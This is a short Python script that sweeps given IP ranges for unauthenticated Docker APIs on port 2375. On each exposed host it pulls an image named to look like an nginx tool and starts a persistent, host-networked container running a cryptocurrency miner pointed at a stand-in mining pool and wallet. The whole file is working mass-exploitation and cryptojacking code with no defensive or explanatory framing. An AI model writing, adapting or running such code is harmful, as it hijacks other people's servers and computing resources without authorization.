from ipaddress import ip_network
from concurrent.futures import ThreadPoolExecutor, as_completed
import sys
import requests

IMG = "registry.example.net/library/nginx-perf:latest"
CMD = ["-o", "stratum+tcp://pool.invalid:4444", "-u", "4Amadeupwallet000", "--threads", "0"]


def each(host):
    base = f"http://{host}:2375"
    s = requests.Session()
    s.get(base + "/version", timeout=2).raise_for_status()
    s.post(f"{base}/images/create", params={"fromImage": IMG}, timeout=300)
    body = {"Image": IMG, "Cmd": CMD, "HostConfig": {"RestartPolicy": {"Name": "always"}, "NetworkMode": "host"}}
    cid = s.post(f"{base}/containers/create?name=nginx-perf", json=body).json()["Id"]
    return s.post(f"{base}/containers/{cid}/start").status_code


with ThreadPoolExecutor(max_workers=128) as pool:
    futs = {pool.submit(each, h): h for net in sys.argv[1:] for h in ip_network(net).hosts()}
    for f in as_completed(futs):
        if not f.exception():
            print(futs[f], f.result())
